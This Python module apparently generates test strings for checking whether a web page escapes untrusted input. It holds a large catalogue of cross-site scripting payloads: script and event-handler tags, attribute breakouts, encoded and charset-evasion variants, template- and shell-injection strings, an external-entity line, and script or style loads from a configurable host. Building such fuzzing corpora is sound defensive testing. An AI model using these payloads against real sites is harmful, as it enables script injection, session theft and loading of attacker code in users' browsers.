# SPDX-License-Identifier: Apache-2.0
"""Generates strings that would be markup, script or style in a page that does not escape them."""

import itertools
import random

CALLS = ["alert(1)", "fetch('//{at}/s')", "document.title='owned'", "import('//{at}/m')", "location='//{at}/l'", "window.name=1"]
TAGS = ["<script>{js}</script>", "<script src=//{at}/x></script>", "<img src=x onerror={js}>", "<img src=//{at}/i.png>", "<svg onload={js}>",
        "<svg><script>{js}</script></svg>", "<iframe src=//{at}/f></iframe>", "<iframe srcdoc='<script>{js}</script>'></iframe>",
        "<object data=//{at}/o></object>", "<embed src=//{at}/e>", "<link rel=stylesheet href=//{at}/c.css>", "<style>@import '//{at}/c.css';</style>",
        "<style>*{{background:url(//{at}/b)}}</style>", "<base href=//{at}/>", "<meta http-equiv=refresh content='0;url=//{at}/r'>",
        "<form action=//{at}/><input autofocus onfocus={js}>", "<body onload={js}>", "<details open ontoggle={js}>", "<video src=//{at}/v onerror={js}>",
        "<audio src onloadstart={js}>", "<a href=javascript:{js}>x</a>", "<a href=//{at}/ ping=//{at}/p>x</a>", "<math><mi xlink:href=javascript:{js}>",
        "<template><script>{js}</script></template>", "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<marquee onstart={js}>",
        "<image href=//{at}/i>", "<use href=//{at}/u#x>", "<foreignObject><script>{js}</script></foreignObject>", "<portal src=//{at}/>"]
ENDS = ["", "</code>", "</mark></code>", "</title>", "</style>", "</desc></svg>", "</textarea>", "-->", "]]>", "</script>", "\"'>", "'\">", "</p></li></ul>",
        "</td></tr></table>", "</body></html>"]
ATTRIBUTES = ["\" onmouseover=\"{js}", "' onclick='{js}", "\" autofocus onfocus={js} x=\"", "` onerror={js} `", "\" style=\"background:url(//{at}/a)",
              "x\tonload={js}", "x\nonload={js}", "/onload={js}", "\"/><script>{js}</script>", "&quot; onload=&quot;{js}"]
ENTITIES = ["&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;", "&#x3c;script&#x3e;{js}", "&#0000060script>{js}", "&lt", "&amp;lt;b&amp;gt;",
            "&NewLine;<b>", "&Tab;javascript:{js}", "&copy", "&#x202e;x", "&#0;", "%3Cscript%3E{js}%3C/script%3E", "%253Cscript%253E", "\\u003cscript\\u003e{js}",
            "\\x3cscript\\x3e{js}", "<!ENTITY x SYSTEM '//{at}/x'>&x;", "<?xml-stylesheet href='//{at}/x'?>", "<![CDATA[<script>{js}</script>]]>", "<!--><script>{js}</script>-->"]
TEMPLATES = ["{{{{{js}}}}}", "${{{js}}}", "<%= {js} %>", "{{% {js} %}}", "#{{{js}}}", "[[{js}]]", "{{{{constructor.constructor('{js}')()}}}}", "%s%n%x", "$(printf x)", "`id`"]
STYLES = ["}}*{{background:url(//{at}/s)}}", "expression({js})", "@import'//{at}/s';", "</style><script>{js}</script>", "\\3c/style>", "/*", "*/ :root{{--x:1}}"]
CHARSETS = ["+ADw-script+AD4-{js}+ADw-/script+AD4-", "\ufeff<script>{js}</script>", "\u202e<b>{js}", "\u2028{js}", "\u2066<i>\u2069", "\u00ab\u003c", "\uff1cscript\uff1e{js}",
            "\u0085<script>", "\ufffe<b>", "\u200b<\u200bscript>", "\U000e003c"]
RAW = [b"\x00<script>alert(1)</script>", b"<\x00script>alert(1)</script>", b"<scr\x00ipt>alert(1)</script>", b"\xbcscript\xbealert(1)\xbc/script\xbe", b"\xc0\xbcscript\xc0\xbe",
       b"\xe0\x80\xbcb\xe0\x80\xbe", b"\xff\xfe<\x00s\x00", b"\x1b$B<script>\x1b(B", b"\x8f<b>", b"\xa1<b>\"", b"\x0c<b>", b"\x7f<b>", b"<b\x0bonload=alert(1)>", b"\x1a<script>",
       b"<a href=\"\x01javascript:alert(1)\">x</a>", b"\xed\xa0\xbc<b>"]


def hostile_markup(count, at="127.0.0.1:9", seed=1):
    """Returns `count` different strings, of every kind; if one became active it would contact the server `at`."""
    rng = random.Random(seed)
    made = dict.fromkeys(RAW)
    for text in TAGS + ATTRIBUTES + ENTITIES + TEMPLATES + STYLES + CHARSETS:
        made[text.format(js=CALLS[0].format(at=at), at=at).encode()] = None
    pairs = list(itertools.product(ENDS[1:], TAGS))
    rng.shuffle(pairs)
    for end, tag in pairs:
        made[(end + tag.format(js=rng.choice(CALLS).format(at=at), at=at)).encode()] = None
    for case in list(made):
        made[case.swapcase()] = None
    if len(made) < count:
        raise ValueError("only %d strings" % len(made))
    return list(made)[:count]
